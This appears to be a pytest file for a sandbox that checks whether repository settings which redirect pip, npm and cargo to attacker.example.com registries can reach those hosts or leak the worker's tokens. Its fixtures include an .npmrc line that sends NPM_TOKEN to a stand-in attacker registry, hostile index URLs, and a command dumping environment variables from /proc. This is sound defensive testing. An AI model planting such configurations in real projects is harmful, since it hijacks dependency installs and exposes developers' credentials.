"""Settings of a repository that send package tools elsewhere, or ask them for tokens: what they reach from a set-up."""

from __future__ import annotations

import uuid
from dataclasses import dataclass

import pytest

from sandbox.environments import DockerSandbox
from sandbox.errors import NetworkDenied
from sandbox.spec import Plan, Step
from tests.sandbox.trees import tree

pytestmark = pytest.mark.engine

CANARY = f"canary{uuid.uuid4().hex}"
OURS = ("GITHUB_TOKEN", "NPM_TOKEN", "NODE_AUTH_TOKEN", "PIP_INDEX_URL", "UV_INDEX_URL", "CARGO_REGISTRY_TOKEN",
        "OPENAI_API_KEY", "HEAL_GITHUB_PRIVATE_KEY", "TWINE_PASSWORD", "AWS_SECRET_ACCESS_KEY")  # fmt: skip
"""What the worker may have in its own environment, by the names that tools look for."""
_NPM = ".attacker.example.com/\n//npm.attacker.example.com/:_authToken=${NPM_TOKEN}\nfetch-retries=0\n"
_CARGO = """\
[source.crates-io]
replace-with = "evil"
[source.evil]
registry = "sparse+https://cargo.attacker.example.com/"
[net]
retry = 0
"""


@dataclass(frozen=True)
class Settings:
    """Files of a repository, what a job runs with them, and the hosts that they name."""

    image: str
    files: dict[str, str]
    script: str
    hosts: set[str]


HOSTILE = (
    Settings(
        "python",
        {
            "pip.conf": "[global]\nindex-url = https://conf.attacker.example.com/simple\nretries = 0\n",
            "requirements.txt": "--index-url https://req.attacker.example.com/simple\nx==1\n",
        },
        "export PIP_RETRIES=0; pip install -r requirements.txt; PIP_CONFIG_FILE=pip.conf pip download x==1\n"
        "PIP_INDEX_URL=https://me:pass@env.attacker.example.com/simple pip download x==1",
        {"conf.attacker.example.com", "req.attacker.example.com", "env.attacker.example.com"},
    ),
    Settings(
        "node",
        {".npmrc": f"registry=https://npm{_NPM}", "package.json": '{"dependencies": {"left-pad": "1.3.0"}}'},
        "npm install; npm config get //npm.attacker.example.com/:_authToken",
        {"npm.attacker.example.com"},
    ),
    Settings(
        "rust",
        {
            ".cargo/config.toml": _CARGO,
            "Cargo.toml": '[package]\nname = "a"\nversion = "0.1.0"\n[dependencies]\nrand = "0.8"\n',
            "src/lib.rs": "",
        },
        "cargo fetch",
        {"cargo.attacker.example.com"},
    ),
)


@pytest.mark.fault(27, 30, 36)
@pytest.mark.parametrize("settings", HOSTILE, ids=lambda one: one.image)
def test_settings_of_a_repository_reach_no_index_of_theirs_and_no_token_of_ours(
    sandbox: DockerSandbox, settings: Settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The tool obeys the file, and the way out refuses and names each host; of the worker's own environment nothing is
    there to be sent."""
    for name in OURS:
        monkeypatch.setenv(name, CANARY)
    look = Step("look", f"{settings.script}\nenv; cat /proc/*/environ | tr '\\0' '\\n'; exit 9", "bash {0}")
    with pytest.raises(NetworkDenied) as caught:
        sandbox.prepare(
            Plan(settings.image, (look,), Step("check", "true"), trust=uuid.uuid4().hex), tree(settings.files)
        )
    assert (caught.value.exit_code, set(caught.value.hosts)) == (9, settings.hosts), caught.value.log
    assert "CI=true" in caught.value.log
    assert CANARY not in caught.value.log
